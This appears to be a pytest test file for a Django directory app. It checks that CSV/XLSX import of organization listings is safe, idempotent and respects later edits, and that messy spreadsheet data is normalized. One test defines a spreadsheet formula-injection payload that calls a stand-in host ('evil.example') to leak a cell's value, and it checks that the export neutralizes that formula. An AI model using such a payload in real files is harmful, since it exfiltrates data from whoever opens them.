"""Issue 11, finding 2 and the real-world files: importing an old export never undoes
what changed since, merged and archived listings stay as they are, a retried
confirmation imports once, and common spreadsheet habits are fixed and shown."""

import csv
import io

import pytest
import reversion
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook
from reversion.models import Version

from directory.contributions import merge, services
from directory.listings import services as listing_services
from directory.listings.imports.columns import ORGANIZATION_COLUMNS
from directory.models import Organization
from tests.support import real_world
from tests.support.factories import ChangeRequestFactory, LocationFactory, OrganizationFactory
from tests.support.imports import CSV_FORMAT, XLSX_FORMAT, confirm, csv_upload, outcomes, preview

pytestmark = pytest.mark.django_db

EXPORT_URL = reverse("admin:directory_organization_export")


def listing(name, slug, **fields):
    organization = OrganizationFactory(name=name, slug=slug, **fields)
    LocationFactory(organization=organization, hours="Mon-Fri 9-5")
    with reversion.create_revision():
        organization.refresh_from_db()
        organization.save()
    return organization


def export(client, file_format=CSV_FORMAT) -> bytes:
    response = client.post(
        EXPORT_URL,
        {
            "resource": "0",
            "format": file_format,
            **{f"organizationresource_{name}": "on" for name in ORGANIZATION_COLUMNS},
        },
    )
    assert response.status_code == 200
    return response.content


def upload(content, name="export.csv"):
    return SimpleUploadedFile(name, content, content_type="text/csv")


@pytest.fixture
def four(db):
    return {
        "phone": listing("Phone Co-op", "phone-co-op", phone="(202) 555-0100"),
        "closed": listing("Closed Co-op", "closed-co-op"),
        "merged": listing("Merged Twin", "merged-twin", phone="(202) 555-0300"),
        "survivor": listing("Survivor Twin", "survivor-twin", phone="(202) 555-0300"),
    }


def test_reimporting_an_old_export_undoes_nothing_changed_since(
    organizer_client, organizer, four, client
):
    old_file = export(organizer_client)
    services.approve(
        change_request=ChangeRequestFactory(
            organization=four["phone"], proposed={"phone": "(202) 555-0199"}
        ),
        user=organizer,
    )
    listing_services.archive([four["closed"]], user=organizer)
    merge.merge(duplicate=four["merged"], survivor=four["survivor"], user=organizer)
    count = Organization.objects.count()

    response = preview(organizer_client, upload(old_file))
    by_number = outcomes(response)
    assert sorted(by_number.values()) == ["skipped", "unchanged", "unchanged", "unchanged"]
    page = response.content.decode()
    assert "merged into “Survivor Twin”" in page
    assert "the directory's newer value is kept" in page

    assert confirm(organizer_client, response).status_code == 302
    assert Organization.objects.count() == count, "the merged-away listing did not come back"
    four["phone"].refresh_from_db()
    four["closed"].refresh_from_db()
    assert four["phone"].phone == "(202) 555-0199", "the approved edit stands"
    assert four["closed"].status == "archived", "the closed listing stays archived"
    assert client.get("/organizations/merged-twin/").status_code == 301


def test_a_stale_row_applies_its_own_edits_and_refuses_a_field_changed_on_both_sides(
    organizer_client, organizer, four
):
    old_file = export(organizer_client).decode()
    services.approve(
        change_request=ChangeRequestFactory(
            organization=four["phone"], proposed={"phone": "(202) 555-0199"}
        ),
        user=organizer,
    )
    edited = old_file.replace("Phone Co-op", "Phone Cooperative")
    response = preview(organizer_client, upload(edited.encode()))
    row = next(row for row in response.context["plan"].rows if row.slug == "phone-co-op")
    assert row.outcome == "update"
    assert [change.column for change in row.changes] == ["name"]
    confirm(organizer_client, response)
    four["phone"].refresh_from_db()
    assert (four["phone"].name, four["phone"].phone) == ("Phone Cooperative", "(202) 555-0199")

    both = old_file.replace("(202) 555-0100", "(202) 555-0777")
    response = preview(organizer_client, upload(both.encode()))
    row = next(row for row in response.context["plan"].rows if row.slug == "phone-co-op")
    assert row.outcome == "conflict"
    page = response.content.decode()
    assert "file “(202) 555-0777”; directory now “(202) 555-0199”" in page
    confirm(organizer_client, response)
    four["phone"].refresh_from_db()
    assert four["phone"].phone == "(202) 555-0199"


def test_an_unchanged_file_writes_nothing(organizer_client, four):
    before = {o.pk: o.updated_at for o in Organization.objects.all()}
    versions = Version.objects.count()
    response = preview(organizer_client, upload(export(organizer_client)))
    assert set(outcomes(response).values()) == {"unchanged"}
    confirm(organizer_client, response)
    assert {o.pk: o.updated_at for o in Organization.objects.all()} == before
    assert Version.objects.count() == versions, "no history entry for unchanged rows"


def test_a_retried_confirmation_and_a_second_upload_never_duplicate(organizer_client):
    rows = [{"name": "New Printers Co-op", "type": "worker-cooperative", "zip_code": "20781"}]
    first = preview(organizer_client, csv_upload(rows))
    assert confirm(organizer_client, first).status_code == 302
    retried = confirm(organizer_client, first)
    assert retried.status_code == 302
    assert Organization.objects.count() == 1
    again = preview(organizer_client, csv_upload(rows))
    assert set(outcomes(again).values()) == {"unchanged"}, again.context["plan"].rows[0].changes
    confirm(organizer_client, again)
    assert Organization.objects.count() == 1


FORMULA = '=HYPERLINK("http://evil.example/?leak="&X2,"Click")'


def test_the_admin_export_neutralizes_formulas_in_csv_and_xlsx(organizer_client):
    listing("Formula Co-op", "formula-co-op", summary=FORMULA, internal_contact_name="Ana")
    rows = list(csv.DictReader(io.StringIO(export(organizer_client).decode())))
    assert rows[0]["summary"] == "'" + FORMULA
    workbook = load_workbook(io.BytesIO(export(organizer_client, XLSX_FORMAT)))
    sheet = workbook.active
    headers = [cell.value for cell in sheet[1]]
    cell = sheet.cell(row=2, column=headers.index("summary") + 1)
    assert cell.data_type == "s" and cell.value == "'" + FORMULA

    response = preview(organizer_client, upload(export(organizer_client)))
    assert set(outcomes(response).values()) == {"unchanged"}, "the apostrophe comes off again"


REAL_WORLD = [
    {
        "name": "CAPITAL AREA COMMUNITY LAND TRUST",
        "type": "community-land-trust",
        "website": "www.example.org",
        "state": "Virginia",
        "zip_code": "22201",
    },
    {
        "name": "Northeast Credit Union",
        "type": "credit-union",
        "state": "District of Columbia",
        "zip_code": "20010--1620",
        "website": "example.org/ne",
    },
    {
        "name": "Downtown Loan Fund",
        "type": "community-lender",
        "state": "D.C.",
        "zip_code": "200061234",
        "street_address": "P.O. Box 4410",
        "email": "mailto:loans@example.org",
    },
    {
        "name": "  Riverdale   Mutual Aid ",
        "type": "mutual-aid",
        "state": "md",
        "zip_code": "20737 ",
    },
]


def test_real_world_habits_are_fixed_and_shown(organizer_client):
    response = preview(organizer_client, csv_upload(REAL_WORLD))
    assert set(outcomes(response).values()) == {"new"}, response.context["plan"].rows
    page = response.content.decode()
    assert "website: www.example.org → https://www.example.org" in page
    assert "state: Virginia → VA" in page
    assert "zip_code: 20010--1620 → 20010-1620" in page
    assert "zip_code: 200061234 → 20006-1234" in page
    assert "name: CAPITAL AREA COMMUNITY LAND TRUST → Capital Area Community Land Trust" in page
    confirm(organizer_client, response)
    assert Organization.objects.filter(name="Capital Area Community Land Trust").exists()
    assert Organization.objects.get(name="Downtown Loan Fund").email == "loans@example.org"


def test_at_least_98_percent_of_real_world_rows_are_accepted(organizer_client):
    response = preview(organizer_client, upload(real_world.csv_bytes(300), "lists.csv"))
    plan = response.context["plan"]
    accepted = [row for row in plan.rows if row.outcome == "new"]
    assert len(accepted) / len(plan.rows) >= 0.98, [
        (row.number, row.errors) for row in plan.rows if row.outcome == "error"
    ]
    refused = [row for row in plan.rows if row.outcome == "error"]
    assert {column for row in refused for column in row.errors} <= {"name", "zip_code"}
